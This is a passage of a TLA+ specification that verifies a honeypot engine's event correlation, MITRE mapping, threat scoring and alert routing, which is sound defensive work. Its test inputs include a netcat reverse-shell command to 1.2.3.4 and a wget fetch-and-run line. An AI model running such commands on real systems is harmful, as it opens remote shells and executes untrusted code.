\* that number exceeds 5, and an empty list with 5 or fewer.
C10_AsClaimed ==
    cd_pc = "returned" =>
        IF cd_active > 5
        THEN cd_found = <<[pattern |-> "multiple_sources",
                           confidence |-> "medium",
                           ip_count |-> cd_active]>>
        ELSE cd_found = <<>>

(***************************************************************************)
(* Claims on the mapper                                                    *)
(***************************************************************************)
Returned == mt_pc = "returned"

\* C6: the chain returned by get_attack_chain holds no two steps with the same
\* tactic id, and is no longer than the catalog has distinct tactics.
C6_ChainTacticsDistinct ==
    Returned =>
        /\ \A i, j \in 1..Len(mt_chain) :
               i # j => mt_chain[i].tactic_id # mt_chain[j].tactic_id
        /\ \A i \in 1..Len(mt_chain) : mt_chain[i].tactic_id \in TacticIds
        /\ Len(mt_chain) <= Cardinality(TacticIds)

\* two events of the call map the same tactic, and one event maps it twice
C6_Witness ==
    /\ Returned
    /\ Len(mt_chain) >= 3
    /\ \E i, j \in 1..Len(mt_events) :
           /\ i # j
           /\ \E t \in TacticIds :
                  /\ InSeq(t, map_event(mt_events[i]).tactics)
                  /\ InSeq(t, map_event(mt_events[j]).tactics)
    /\ \E i \in 1..Len(mt_events) :
           LET d == map_event(mt_events[i]).technique_details IN
           \E a, b \in 1..Len(d) : a # b /\ d[a].tactic_id = d[b].tactic_id

\* a step's place in time: a step without a timestamp counts as earliest
StepKey(step) == IF step.timestamp = Null THEN Absent ELSE step.timestamp

\* the steps are in ascending order of their events' timestamps
ChainChronological ==
    \A i, j \in 1..Len(mt_chain) :
        i < j => StepKey(mt_chain[i]) <= StepKey(mt_chain[j])

HasTactic(event, t) == InSeq(t, map_event(event).tactics)

\* events[i] is the earliest event that maps tactic t: no event mapping t has a
\* smaller timestamp, nor the same timestamp and an earlier place in the input
EarliestWith(events, i, t) ==
    /\ HasTactic(events[i], t)
    /\ \A j \in 1..Len(events) :
           (j # i /\ HasTactic(events[j], t)) =>
               \/ TsKey(events[i]) < TsKey(events[j])
               \/ TsKey(events[i]) = TsKey(events[j]) /\ i < j

FirstDetailWith(event, t) ==
    LET d == map_event(event).technique_details
        k == CHOOSE a \in 1..Len(d) :
                 d[a].tactic_id = t /\ \A b \in 1..(a - 1) : d[b].tactic_id # t
    IN  d[k]

\* every tactic some event maps has its step, taken from the earliest such event
StepsFromEarliestEvent ==
    /\ \A s \in 1..Len(mt_chain) :
           \E i \in 1..Len(mt_events) :
               /\ EarliestWith(mt_events, i, mt_chain[s].tactic_id)
               /\ mt_chain[s] =
                      NewStep(mt_events[i],
                              FirstDetailWith(mt_events[i], mt_chain[s].tactic_id))
    /\ \A i \in 1..Len(mt_events) : \A t \in TacticIds :
           HasTactic(mt_events[i], t) =>
               \E s \in 1..Len(mt_chain) : mt_chain[s].tactic_id = t

Reorderings(s) ==
    {[i \in 1..Len(s) |-> s[p[i]]] :
        p \in {q \in [1..Len(s) -> 1..Len(s)] :
                  \A a, b \in 1..Len(s) : a # b => q[a] # q[b]}}

\* every reordering of the input gives the same chain
OrderIndependent ==
    \A p \in Reorderings(mt_events) : get_attack_chain(p).chain = mt_chain

DistinctTimestamps(events) ==
    \A i, j \in 1..Len(events) : i # j => TsKey(events[i]) # TsKey(events[j])

\* C7 as stated: the steps are in chronological order of their events, each
\* tactic's step comes from the earliest event mapping it, and the chain does
\* not depend on the order of the input list.
C7_AsClaimed ==
    Returned => ChainChronological /\ StepsFromEarliestEvent /\ OrderIndependent

\* C7 amended: the steps are in ascending timestamp order (no timestamp counts
\* as earliest), each tactic's step comes from the earliest event mapping it,
\* events of equal timestamp counting in input order; the chain is independent
\* of the input order when the timestamps are pairwise distinct.
C7_ChainChronological ==
    Returned =>
        /\ ChainChronological
        /\ StepsFromEarliestEvent
        /\ DistinctTimestamps(mt_events) => OrderIndependent

\* the input was not in time order, and the chain spans three distinct times
C7_Witness ==
    /\ Returned
    /\ Len(mt_events) = 3
    /\ DistinctTimestamps(mt_events)
    /\ TsKey(mt_events[1]) > TsKey(mt_events[2])
    /\ TsKey(mt_events[2]) > TsKey(mt_events[3])
    /\ \E a, b, c \in 1..Len(mt_chain) :
           /\ StepKey(mt_chain[a]) < StepKey(mt_chain[b])
           /\ StepKey(mt_chain[b]) < StepKey(mt_chain[c])

Mapped == mt_pc = "mapped"

NoRepeats(s) == \A i, j \in 1..Len(s) : i # j => s[i] # s[j]

\* place of a technique in TECHNIQUE_MAPPINGS
CatalogIndex(technique_id) ==
    CHOOSE i \in 1..Len(TECHNIQUE_MAPPINGS) : TECHNIQUE_MAPPINGS[i].id = technique_id

Matches(i, p, text) == Search(TECHNIQUE_MAPPINGS[i].patterns[p], text)

\* C8: map_event records each technique and each tactic at most once; the
\* matched_pattern of a technique is its first matching pattern in catalog order;
\* the techniques come in catalog order; an event matching nothing yields three
\* empty collections.
C8_MapEventOncePerTechnique ==
    Mapped =>
        LET text == CombinedText(mt_events[1])
            d == mt_mapped.technique_details
        IN  /\ NoRepeats(mt_mapped.techniques)
            /\ NoRepeats(mt_mapped.tactics)
            /\ Len(d) = Len(mt_mapped.techniques)
            /\ \A k \in 1..Len(d) :
                   LET i == CatalogIndex(d[k].technique_id) IN
                   /\ d[k].technique_id = mt_mapped.techniques[k]
                   /\ d[k].tactic_id = TECHNIQUE_MAPPINGS[i].tactic
                   /\ InSeq(d[k].tactic_id, mt_mapped.tactics)
                   /\ \E p \in 1..Len(TECHNIQUE_MAPPINGS[i].patterns) :
                          /\ d[k].matched_pattern = TECHNIQUE_MAPPINGS[i].regex[p]
                          /\ Matches(i, p, text)
                          /\ \A r \in 1..(p - 1) : ~Matches(i, r, text)
            /\ \A k, l \in 1..Len(d) :
                   k < l => CatalogIndex(d[k].technique_id) < CatalogIndex(d[l].technique_id)
            /\ \A k \in 1..Len(mt_mapped.tactics) :
                   \E l \in 1..Len(d) : d[l].tactic_id = mt_mapped.tactics[k]
            /\ (\A i \in 1..Len(TECHNIQUE_MAPPINGS) :
                    \A p \in 1..Len(TECHNIQUE_MAPPINGS[i].patterns) : ~Matches(i, p, text))
               => mt_mapped = EmptyMapping

\* a technique with two matching patterns, and two techniques of one tactic
C8_Witness ==
    /\ Mapped
    /\ LET text == CombinedText(mt_events[1]) IN
       \E i \in 1..Len(TECHNIQUE_MAPPINGS) :
           /\ InSeq(TECHNIQUE_MAPPINGS[i].id, mt_mapped.techniques)
           /\ \E p, r \in 1..Len(TECHNIQUE_MAPPINGS[i].patterns) :
                  p < r /\ Matches(i, p, text) /\ Matches(i, r, text)
    /\ Len(mt_mapped.tactics) < Len(mt_mapped.techniques)

(***************************************************************************)
(* Claims about build_attacker_profile                                     *)
(***************************************************************************)
Profiled == pr_pc = "returned"

\* what the query of one source handed to the correlation
Handed(source) ==
    IF source \in pr_failed THEN <<>>
    ELSE SubSeq(pr_store[source], 1, Min(Len(pr_store[source]), PageSize))

ProfiledTotal ==
    Len(Handed("cowrie")) + Len(Handed("dionaea")) + Len(Handed("snort"))

\* C11: a returned profile has is_persistent true exactly when the events
\* the three sources returned for the profiled window number more than 10;
\* with 10 or fewer it is false.
C11_PersistentAboveTen ==
    Profiled =>
        (pr_profile.intelligence.is_persistent <=> ProfiledTotal > 10)

\* eleven events, the fewest that make a profile persistent
C11_Witness ==
    /\ Profiled
    /\ ProfiledTotal = 11
    /\ pr_profile.intelligence.is_persistent

\* the timestamps of the returned cowrie events that carry one, and the
\* deltas between consecutive ones
CowrieStamps == TimestampsOf(Handed("cowrie"))

CowrieDeltas ==
    [i \in 1..(Len(CowrieStamps) - 1) |-> CowrieStamps[i + 1] - CowrieStamps[i]]

AllStampsParse == \A i \in 1..Len(CowrieStamps) : CowrieStamps[i] \in 1..LastSecond

\* the variance of the deltas is below 1.0: with n deltas of sum S,
\* sum((n*d - S)^2) < n^3
RegularTiming ==
    LET n == Len(CowrieDeltas)
        total == SumSeq(CowrieDeltas, 1)
        spread == [i \in 1..n |-> (n * CowrieDeltas[i] - total)
                                  * (n * CowrieDeltas[i] - total)]
    IN  SumSeq(spread, 1) < n * n * n

\* C12 as claimed: is_automated is true exactly when at least 2 returned
\* cowrie events carry a timestamp and the variance of their deltas is
\* below 1.0.
C12_AsClaimed ==
    Profiled /\ AllStampsParse =>
        (pr_profile.intelligence.is_automated
            <=> (Len(CowrieStamps) >= 2 /\ RegularTiming))

\* C12: a returned profile has is_automated true exactly when the cowrie
\* query returned more than 5 events, at least 2 of them carry a timestamp,
\* and the variance of the deltas, in seconds, between the consecutive
\* timestamps is below 1.0; otherwise is_automated is false.
C12_AutomatedWhenRegular ==
    Profiled =>
        (pr_profile.intelligence.is_automated
            <=> (/\ Len(Handed("cowrie")) > 5
                 /\ Len(CowrieStamps) >= 2
                 /\ RegularTiming))

\* six logins, one a second
C12_Witness ==
    /\ Profiled
    /\ Len(Handed("cowrie")) = 6
    /\ Len(CowrieStamps) = 6
    /\ \A i \in 1..Len(CowrieDeltas) : CowrieDeltas[i] = 1
    /\ pr_profile.intelligence.is_automated

\* C13: in a returned profile the two flags alone fix threat_level and
\* recommended_action: both true gives high and block, is_persistent
\* alone gives medium and monitor_closely, both false gives low and
\* monitor, and no other pair is returned.
C13_AssessmentFromFlags ==
    Profiled =>
        LET persistent == pr_profile.intelligence.is_persistent
            automated == pr_profile.intelligence.is_automated
            pair == <<pr_profile.risk_assessment.threat_level,
                      pr_profile.risk_assessment.recommended_action>>
        IN  /\ persistent /\ automated => pair = <<"high", "block">>
            /\ persistent /\ ~automated => pair = <<"medium", "monitor_closely">>
            /\ ~persistent /\ ~automated => pair = <<"low", "monitor">>
            /\ pair \in {<<"high", "block">>, <<"medium", "monitor_closely">>,
                         <<"low", "monitor">>}

\* eleven events of irregular timing: persistent, not automated
C13_Witness ==
    /\ Profiled
    /\ pr_profile.intelligence.is_persistent
    /\ ~pr_profile.intelligence.is_automated
    /\ pr_profile.risk_assessment.threat_level = "medium"
    /\ pr_profile.risk_assessment.recommended_action = "monitor_closely"

\* C15 as claimed: no call of get_attack_chain, correlate_by_ip (with its
\* _reconstruct_attack_phases) or build_attacker_profile raises, whatever
\* the timestamps of the events are: missing, null or unparseable.
C15_AsClaimed ==
    /\ mt_pc # "raised"
    /\ co_pc # "raised"
    /\ pr_pc # "raised"

(***************************************************************************)
(* Further claims on correlate_by_ip                                       *)
(***************************************************************************)
\* C14: for an IP without a document in any index correlate_by_ip returns,
\* whether or not a query failed, a result whose total and per-source
\* counts are zero, whose event lists are empty, whose first_seen and
\* last_seen are None and whose targeted_services and attack_phases are
\* empty.
C14_NoDataReturnsZeros ==
    (co_store = NoStore /\ CorrelationEnded) =>
        /\ co_pc = "returned"
        /\ co_result.summary.total_events = 0
        /\ co_result.summary.cowrie_events = 0
        /\ co_result.summary.dionaea_events = 0
        /\ co_result.summary.snort_alerts = 0
        /\ \A s \in SourceSet : co_result.events[s] = <<>>
        /\ co_result.summary.first_seen = None
        /\ co_result.summary.last_seen = None
        /\ co_result.summary.targeted_services = {}
        /\ co_result.summary.attack_phases = <<>>

\* the three queries answered, none with a hit
C14_Witness ==
    /\ co_store = NoStore
    /\ co_pc = "returned"
    /\ FailedSources = {}
    /\ Len(co_order) = Len(Sources)

\* C16 as claimed: an unreachable event store makes no operation of the
\* engine raise; detect_coordinated_attacks, whose one search is the
\* store's, returns a list of findings.
C16_AsClaimed == cd_pc \in {"ready", "returned"}

\* the events of all three sources that correlate_by_ip returned, and the
\* timestamps among them
ReturnedStamps ==
    {AllEvents[i].timestamp : i \in 1..Len(AllEvents)} \ {Absent, Null}

\* C17: in a result of correlate_by_ip first_seen is the least and
\* last_seen the greatest timestamp of the returned events of the three
\* sources that carry one, so first_seen <= last_seen and both are
\* timestamps of returned events; both are None exactly when no returned
\* event carries a timestamp.
C17_FirstLastSeen ==
    co_pc = "returned" =>
        LET first_seen == co_result.summary.first_seen
            last_seen == co_result.summary.last_seen
        IN  IF ReturnedStamps = {}
            THEN first_seen = None /\ last_seen = None
            ELSE /\ first_seen \in ReturnedStamps
                 /\ last_seen \in ReturnedStamps
                 /\ \A t \in ReturnedStamps : first_seen <= t /\ t <= last_seen
                 /\ first_seen <= last_seen

\* the latest event is not the last of the merged list
C17_Witness ==
    /\ co_pc = "returned"
    /\ Len(AllEvents) = 2
    /\ AllEvents[1].timestamp \notin {Absent, Null}
    /\ AllEvents[2].timestamp \notin {Absent, Null}
    /\ AllEvents[2].timestamp < AllEvents[1].timestamp
    /\ co_result.summary.first_seen = AllEvents[2].timestamp
    /\ co_result.summary.last_seen = AllEvents[1].timestamp

(***************************************************************************)
(* Further claims on the scoring engine                                    *)
(***************************************************************************)
\* C18: in every breakdown the sub-scores are within their caps and not
\* negative: sophistication_score in 0..30, ip_reputation_score in 0..25
\* and temporal_score in 0..20, also when every signal of a sub-score is
\* present at once; success_multiplier is 1.0 or 1.5.
C18_SubScoresCapped ==
    Scored =>
        /\ sc_result.breakdown.sophistication_score \in 0..30
        /\ sc_result.breakdown.ip_reputation_score \in 0..25
        /\ sc_result.breakdown.temporal_score \in 0..20
        /\ sc_result.breakdown.success_multiplier_x10 \in {10, 15}

\* every signal of the three sub-scores at once: 72, 45 and 30 before the caps
C18_Witness ==
    /\ Scored
    /\ sc_event.input = "openssl enc -aes | base64 ; shred f ; ./x1"
    /\ sc_event.mitre_techniques > 3
    /\ sc_event.in_blocklist /\ sc_event.abuse_confidence_score > 75
    /\ sc_event.is_bot
    /\ sc_event.attack_speed = "rapid" /\ sc_event.is_persistent
    /\ sc_event.at_hour = 3
    /\ sc_result.breakdown.sophistication_score = 30
    /\ sc_result.breakdown.ip_reputation_score = 25
    /\ sc_result.breakdown.temporal_score = 20

\* the event with its command replaced
WithInput(event, input) == [event EXCEPT !.input = input]

\* C19 as claimed: a command event whose input matches the reverse-shell
\* pattern gets a strictly higher attack_type_score than the same event
\* with an input matching only the reconnaissance pattern, and an event
\* matching no rule is classified as unknown with the default score 10.
C19_AsClaimed ==
    Scored =>
        /\ (/\ sc_event.eventid = "cowrie.command.input"
            /\ sc_event.input = "nc -e /bin/sh 1.2.3.4 80")
           => /\ sc_result.attack_type = "reverse_shell"
              /\ calculate_score(WithInput(sc_event, "uname -a")).attack_type
                     = "reconnaissance"
              /\ sc_result.breakdown.attack_type_score
                     > calculate_score(WithInput(sc_event, "uname -a"))
                           .breakdown.attack_type_score
        /\ (/\ sc_event.eventid = "" /\ sc_event.connection_type = ""
            /\ sc_event.alert_msg = "")
           => /\ sc_result.attack_type = "unknown"
              /\ sc_result.breakdown.attack_type_score = 10

(***************************************************************************)
(* Claims on the engines across calls                                      *)
(***************************************************************************)
SameCall(i, j) ==
    /\ hs_calls[i].operation = hs_calls[j].operation
    /\ hs_calls[i].event = hs_calls[j].event

\* what the first call of a new engine returns for the event
FirstCallResult(call) ==
    IF call.operation = "calculate_score" THEN calculate_score(call.event)
    ELSE map_event(call.event)

\* C20: two calls of calculate_score, or of map_event, with the same event
\* return the same result whatever calls were served before or between
\* them, and every call returns what the first call of a new engine would
\* return for its event: no call leaves anything behind in the engine or
\* its tables that a later call picks up.
C20_CallsIndependentOfHistory ==
    /\ \A i, j \in 1..Len(hs_calls) :
          SameCall(i, j) => hs_calls[i].result = hs_calls[j].result
    /\ \A i \in 1..Len(hs_calls) :
          hs_calls[i].result = FirstCallResult(hs_calls[i])

\* the same event scored before and after an event that sets the two
\* conditional entries of the breakdown
C20_Witness ==
    /\ Len(hs_calls) = 3
    /\ SameCall(1, 3)
    /\ hs_calls[1].operation = "calculate_score"
    /\ hs_calls[2].operation = "calculate_score"
    /\ hs_calls[1].result.breakdown.geo_risk_score = 0
    /\ hs_calls[1].result.breakdown.success_multiplier_x10 = 10
    /\ hs_calls[2].result.breakdown.geo_risk_score > 0
    /\ hs_calls[2].result.breakdown.success_multiplier_x10 = 15
    /\ hs_calls[3].result = hs_calls[1].result

(***************************************************************************)
(* The worked examples                                                     *)
(***************************************************************************)
\* a successful login from a blocklisted address, nothing else known
BlocklistedLogin ==
    [NoEvent EXCEPT !.eventid = "cowrie.login.success", !.in_blocklist = TRUE]

\* C21: for a cowrie.login.success event with empty input, in_blocklist
\* true and no other enrichment calculate_score gives attack type
\* brute_force_success with attack_type_score 40, success_multiplier 1.5,
\* ip_reputation_score 20, final_score 80 and severity critical.
C21_BlocklistedLoginScores80 ==
    (Scored /\ sc_event = BlocklistedLogin) =>
        /\ sc_result.attack_type = "brute_force_success"
        /\ sc_result.breakdown.attack_type_score = 40
        /\ sc_result.breakdown.success_multiplier_x10 = 15
        /\ sc_result.breakdown.ip_reputation_score = 20
        /\ sc_result.breakdown.sophistication_score = 0
        /\ sc_result.breakdown.geo_risk_score = 0
        /\ sc_result.breakdown.temporal_score = 0
        /\ sc_result.breakdown.final_score = 80
        /\ sc_result.threat_score = 80
        /\ sc_result.severity = "critical"

C21_Witness ==
    /\ Scored
    /\ sc_event = BlocklistedLogin
    /\ sc_result.threat_score = 80

FetchAndRun == "wget http://x/y && chmod +x y && ./y"

\* the entry of technique_details for a technique
DetailOf(technique_id) ==
    {mt_mapped.technique_details[i] : i \in
        {j \in 1..Len(mt_mapped.technique_details) :
            mt_mapped.technique_details[j].technique_id = technique_id}}

ReportsTransferAndInterpreter ==
    /\ InSeq("T1105", mt_mapped.techniques)
    /\ InSeq("T1059", mt_mapped.techniques)
    /\ InSeq("TA0011", mt_mapped.tactics)
    /\ InSeq("TA0002", mt_mapped.tactics)
    /\ \A d \in DetailOf("T1105") :
          d.technique_name = "Ingress Tool Transfer" /\ d.tactic_id = "TA0011"
    /\ \A d \in DetailOf("T1059") :
          /\ d.technique_name = "Command and Scripting Interpreter"
          /\ d.tactic_id = "TA0002"
    /\ DetailOf("T1105") # {} /\ DetailOf("T1059") # {}

\* C22 as claimed: whatever else the event carries, an input of
\* "wget http://x/y && chmod +x y && ./y" makes map_event report T1105
\* under TA0011 and T1059 under TA0002.
C22_AsClaimed ==
    (Mapped /\ mt_events[1].input = FetchAndRun) => ReportsTransferAndInterpreter

\* C22: for a cowrie.command.input event whose input is
\* "wget http://x/y && chmod +x y && ./y" map_event reports technique T1105
\* (Ingress Tool Transfer) under tactic TA0011 and technique T1059 (Command
\* and Scripting Interpreter) under tactic TA0002.
C22_CommandEventMapsBoth ==
    (/\ Mapped
     /\ mt_events[1].eventid = "cowrie.command.input"
     /\ mt_events[1].input = FetchAndRun)
    => ReportsTransferAndInterpreter

C22_Witness ==
    /\ Mapped
    /\ mt_events[1].eventid = "cowrie.command.input"
    /\ mt_events[1].input = FetchAndRun
    /\ mt_mapped.techniques = <<"T1059", "T1071", "T1105">>
    /\ mt_mapped.tactics = <<"TA0002", "TA0011">>

(***************************************************************************)
(* The narrative                                                           *)
(***************************************************************************)
\* the position of the first line break of text at or after start, or 0
NextBreak(text, start) ==
    LET breaks == {j \in start..Len(text) : CharAt(text, j) = "\n"}
    IN  IF breaks = {} THEN 0
        ELSE CHOOSE j \in breaks : \A k \in breaks : j <= k

\* the lines of text from position start on
RECURSIVE SplitLines(_, _)
SplitLines(text, start) ==
    LET break == NextBreak(text, start)
    IN  IF break = 0 THEN <<SubSeq(text, start, Len(text))>>
        ELSE <<SubSeq(text, start, break - 1)>> \o SplitLines(text, break + 1)

IsDigit(ch) == \E d \in 1..Len(Digits) : CharAt(Digits, d) = ch

\* the number of digits line begins with
RECURSIVE LeadingDigits(_, _)
LeadingDigits(line, i) ==
    IF i <= Len(line) /\ IsDigit(CharAt(line, i))
    THEN 1 + LeadingDigits(line, i + 1) ELSE 0

\* a numbered step is a line that begins with a number, a full stop and a
\* space
IsNumberedStep(line) ==
    LET n == LeadingDigits(line, 1)
    IN  n > 0 /\ SubSeq(line, n + 1, n + 2) = ". "

NumberedSteps(narrative) == SelectSeq(SplitLines(narrative, 1), IsNumberedStep)

BeginsWith(line, head) == SubSeq(line, 1, Len(head)) = head

\* the narrative has one numbered step for each step of chain, numbered
\* from 1 in the order of chain, each naming its step's tactic and technique
StepsAsChain(chain, narrative) ==
    LET steps == NumberedSteps(narrative)
    IN  /\ Len(steps) = Len(chain)
        /\ \A i \in 1..Len(steps) :
              /\ BeginsWith(steps[i], ToString(i) \o ". " \o chain[i].tactic \o " via ")
              /\ Contains(steps[i], "(" \o chain[i].technique_id \o ")")

\* C23: generate_attack_narrative returns the fixed no-activity sentence
\* for an empty chain; for every non-empty chain the narrative contains
\* exactly len(chain) numbered steps, numbered 1..len(chain) in chain
\* order; and the chain passed in is left unchanged.
C23_NarrativeNumbersTheChain ==
    [][(na_pc = "ready" /\ na_pc' = "returned") =>
          /\ na_chain' = na_chain
          /\ Len(na_chain) = 0 => na_narrative' = "No significant attack activity detected."
          /\ Len(na_chain) > 0 => StepsAsChain(na_chain, na_narrative')]_vars

\* a chain of MaxSteps steps with a long evidence and an evidence that
\* looks like a numbered step has been rendered
C23_Witness ==
    /\ na_pc = "returned"
    /\ Len(na_chain) = MaxSteps
    /\ \E i \in 1..Len(na_chain) : Len(na_chain[i].evidence) > 100
    /\ \E i \in 1..Len(na_chain) : na_chain[i].evidence = "7. id"
    /\ Len(NumberedSteps(na_narrative)) = MaxSteps
    /\ Contains(na_narrative, "   Evidence: 7. id")

(***************************************************************************)
(* The alert manager                                                       *)
(***************************************************************************)
\* this step begins a call of process_event
CallBegins == al_log'.calls = al_log.calls + 1

\* this step begins a call of process_event(event) that returns at once
\* without having sent or recorded anything
ReturnsSuppressed(event) ==
    /\ CallBegins
    /\ al_log'.begun.event = event
    /\ al_call' = al_call
    /\ al_recent' = al_recent
    /\ al_log'.recorded_at = al_log.recorded_at
    /\ al_log'.sent_at = al_log.sent_at
    /\ al_log'.last.event = event
    /\ al_log'.last.suppressed
    /\ al_log'.last.channels = {}

\* this step begins a call of process_event(event) that goes on to its
\* channels: it is suspended in its sends or has returned and recorded
TreatedAsNew(event) ==
    /\ CallBegins
    /\ al_log'.begun.event = event
    /\ \/ \E c \in CallIds : /\ al_call[c].pc = "idle"
                             /\ al_call'[c].pc = "sending"
                             /\ al_call'[c].event = event
       \/ /\ al_call' = al_call
          /\ al_log'.last.event = event
          /\ ~al_log'.last.suppressed
          /\ al_recent'[AlertKey(event)] = al_now'

\* C24: once process_event has recorded an alert for a key, every
\* process_event for the same key that starts less than 5 minutes after
\* that record returns without sending to any channel and without changing
\* recent_alerts; a call 5 minutes or more after the record is treated as
\* new.
C24_DuplicatesWithinWindow ==
    [][\A event \in AlertEvents :
          LET recorded == al_log.recorded_at[AlertKey(event)] IN
          (CallBegins /\ al_log'.begun.event = event /\ recorded # Never) =>
              IF al_now - recorded < 5
              THEN ReturnsSuppressed(event)
              ELSE TreatedAsNew(event)]_vars

\* a duplicate was suppressed in the last minute of the window of a record
\* that an earlier suppressed duplicate has not moved
C24_Witness ==
    /\ al_log.calls = MaxAlertCalls
    /\ al_log.last.returned
    /\ al_log.last.suppressed
    /\ al_now - al_log.recorded_at[AlertKey(al_log.last.event)] = 4
    /\ al_recent = al_log.recorded_at

\* the channels the claim names for a score
ClaimedChannels(threat_score) ==
    IF threat_score >= 90 THEN {"email", "telegram", "slack"}
    ELSE IF 76 <= threat_score /\ threat_score < 90 THEN {"email", "telegram"}
    ELSE IF 51 <= threat_score /\ threat_score < 76 THEN {"email"}
    ELSE {}

\* the if / elif of process_event picks the claimed channels for every score
RoutesAsClaimed ==
    \A threat_score \in 0..100 : Route(threat_score) = ClaimedChannels(threat_score)

\* this step ends a call of process_event(event) that was not suppressed
ReturnsUnsuppressed(event) ==
    \/ \E c \in CallIds : /\ al_call[c].pc = "sending"
                          /\ al_call[c].event = event
                          /\ al_call'[c].pc = "idle"
    \/ /\ CallBegins
       /\ al_log'.begun.event = event
       /\ al_call' = al_call
       /\ ~al_log'.last.suppressed

\* C25: for a non-duplicate event process_event routes by threat_score
\* alone: 90 and more to email, telegram and slack; 76 to 89 to email and
\* telegram; 51 to 75 to email; below 51 to no channel.  A channel that
\* fails prevents neither the sends to the other channels nor the
\* recording of the alert.
C25_RoutesByScore ==
    [][/\ RoutesAsClaimed
       /\ \A event \in AlertEvents :
             ReturnsUnsuppressed(event) =>
                /\ al_log'.last.event = event
                /\ al_log'.last.channels = ClaimedChannels(event.threat_score)
                /\ al_log'.last.failed \subseteq al_log'.last.channels
                /\ al_recent'[AlertKey(event)] = al_now'
                /\ \A other \in AlertKeys \ {AlertKey(event)} :
                      al_recent'[other] = al_recent[other]]_vars

\* a critical alert went to its three channels, one of them failed, and
\* the alert is recorded
C25_Witness ==
    /\ al_log.last.returned
    /\ al_log.last.event.threat_score >= 90
    /\ al_log.last.channels = Channels
    /\ Cardinality(al_log.last.failed) = 1
    /\ al_recent[AlertKey(al_log.last.event)] = al_now

\* C26 (as claimed): an event with threat_score >= 51 is suppressed only if
\* a notification for the same key was actually sent within the preceding
\* 5 minutes; an earlier event of the key with a score below 51, which
\* sent nothing, does not suppress it.
C26_AsClaimed ==
    [][\A event \in AlertEvents :
          LET sent == al_log.sent_at[AlertKey(event)] IN
          (ReturnsSuppressed(event) /\ event.threat_score >= 51) =>
              (sent # Never /\ al_now - sent < 5)]_vars

\* C29 (as claimed): of two process_event calls for one key that overlap,
\* the second starting while the first awaits its sends, at most one sends
\* notifications.
C29_AsClaimed ==
    ~ \E c, d \in CallIds :
         /\ c # d
         /\ al_call[c].pc = "sending"
         /\ al_call[d].pc = "sending"
         /\ AlertKey(al_call[c].event) = AlertKey(al_call[d].event)

\* this step is a cleanup_old_alerts that removed something
CleanupRemoves ==
    /\ al_recent' # al_recent
    /\ al_log' = al_log
    /\ al_call' = al_call

\* C30: cleanup_old_alerts removes only entries whose age is at least the
\* 5-minute window and leaves every younger entry with its recorded time;
\* so _is_duplicate answers the same for every key just before and just
\* after a cleanup, and no key is dropped while it would still suppress.
C30_CleanupKeepsTheWindow ==
    [][CleanupRemoves =>
          \A k \in AlertKeys :
             /\ al_recent'[k] # al_recent[k] =>
                   /\ al_recent'[k] = Never
                   /\ al_now - al_recent[k] >= 5
             /\ (al_recent[k] # Never /\ al_now - al_recent[k] < 5) =>
                   al_recent'[k] = al_recent[k]
             /\ is_duplicate(al_recent', al_now, k) = is_duplicate(al_recent, al_now, k)]_vars

\* a cleanup has dropped one key's old record and kept the other key's
\* younger one
C30_Witness ==
    \E old, young \in AlertKeys :
       /\ al_log.recorded_at[old] # Never
       /\ al_now - al_log.recorded_at[old] >= 5
       /\ al_recent[old] = Never
       /\ al_recent[young] # Never
       /\ al_recent[young] = al_log.recorded_at[young]
       /\ al_now - al_recent[young] < 5

(***************************************************************************)
(* The monitor                                                             *)
(***************************************************************************)
\* C27 (as claimed): across any number of polls each stored event leads to
\* at most one notification; an event already alerted is not alerted again
\* by a later poll, even when no newer event arrives and more than 5
\* minutes pass.
C27_AsClaimed == \A id \in StoredIds : mo_alerted[id] <= 1

\* the event with this id is searchable and the query's score filter
\* lets it through
Searchable(id) ==
    /\ \E e \in mo_store : e.id = id
    /\ MonitorSource(id).threat_score >= 51

\* C28 (as claimed): every event with threat_score >= 51 that enters the
\* event store while monitor_threats is running is eventually passed to
\* process_event, provided polls keep succeeding.
C28_AsClaimed == \A id \in StoredIds : Searchable(id) ~> (mo_passed[id] > 0)
====
